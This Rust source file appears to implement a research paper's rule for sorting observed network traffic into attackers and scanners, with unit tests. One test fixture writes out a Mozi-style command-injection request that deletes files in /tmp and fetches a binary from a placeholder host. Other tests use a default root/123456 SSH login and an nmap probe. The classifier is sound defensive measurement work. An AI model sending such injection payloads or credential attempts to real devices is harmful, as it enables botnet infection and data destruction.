//! The §3.2 maliciousness decision procedure.
//!
//! "We classify whether a scan is malicious based on whether the scan
//! attempts to (1) login or bypass authentication, or (2) alter the state of
//! the service." Login attempts (SSH/Telnet credentials) are malicious by
//! definition; other payloads are malicious iff a vetted malicious-classtype
//! rule fires; bare probes are mere scanning.

use crate::ruleset::RuleSet;
use cw_netsim::flow::ConnectionIntent;

/// The paper's scanner/attacker distinction: "attackers" have verified
/// malicious intent; "scanners" have unknown intent.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Verdict {
    /// Verified malicious intent (login attempt or state-altering payload).
    Attacker,
    /// Intent unknown (probe, or payload that triggers no vetted rule).
    Scanner,
}

/// Is this payload malicious per the vetted ruleset?
pub fn is_malicious_payload(payload: &[u8], port: u16, rules: &RuleSet) -> bool {
    rules.is_malicious(payload, port)
}

/// Classify a connection intent as observed at a vantage point.
pub fn classify_intent(intent: &ConnectionIntent, port: u16, rules: &RuleSet) -> Verdict {
    match intent {
        // Attempting credentials *is* attempting to bypass authentication.
        ConnectionIntent::Login { .. } => Verdict::Attacker,
        ConnectionIntent::Payload(p) => {
            if is_malicious_payload(p, port, rules) {
                Verdict::Attacker
            } else {
                Verdict::Scanner
            }
        }
        ConnectionIntent::ProbeOnly => Verdict::Scanner,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use cw_netsim::flow::LoginService;
    use cw_protocols::http::HttpRequest;

    #[test]
    fn login_attempts_are_attackers() {
        let rules = RuleSet::builtin();
        let v = classify_intent(
            &ConnectionIntent::Login {
                service: LoginService::Ssh,
                username: "root".into(),
                password: "123456".into(),
            },
            22,
            &rules,
        );
        assert_eq!(v, Verdict::Attacker);
    }

    #[test]
    fn probes_are_scanners() {
        let rules = RuleSet::builtin();
        assert_eq!(
            classify_intent(&ConnectionIntent::ProbeOnly, 22, &rules),
            Verdict::Scanner
        );
    }

    #[test]
    fn exploit_payloads_are_attackers() {
        let rules = RuleSet::builtin();
        let req =
            HttpRequest::new("GET", "/shell?cd+/tmp;rm+-rf+*;wget+http://x/mozi.m").to_bytes();
        assert_eq!(
            classify_intent(&ConnectionIntent::Payload(req.into()), 80, &rules),
            Verdict::Attacker
        );
    }

    #[test]
    fn benign_payloads_are_scanners() {
        let rules = RuleSet::builtin();
        let req = HttpRequest::new("GET", "/").header("Host", "x").to_bytes();
        assert_eq!(
            classify_intent(&ConnectionIntent::Payload(req.into()), 80, &rules),
            Verdict::Scanner
        );
    }

    #[test]
    fn recon_only_payloads_are_scanners() {
        // The nmap fingerprint rule fires but is attempted-recon, which does
        // not meet the paper's maliciousness bar.
        let rules = RuleSet::builtin();
        let req = HttpRequest::new("GET", "/nice ports,/Trinity.txt.bak").to_bytes();
        assert_eq!(
            classify_intent(&ConnectionIntent::Payload(req.into()), 80, &rules),
            Verdict::Scanner
        );
    }
}
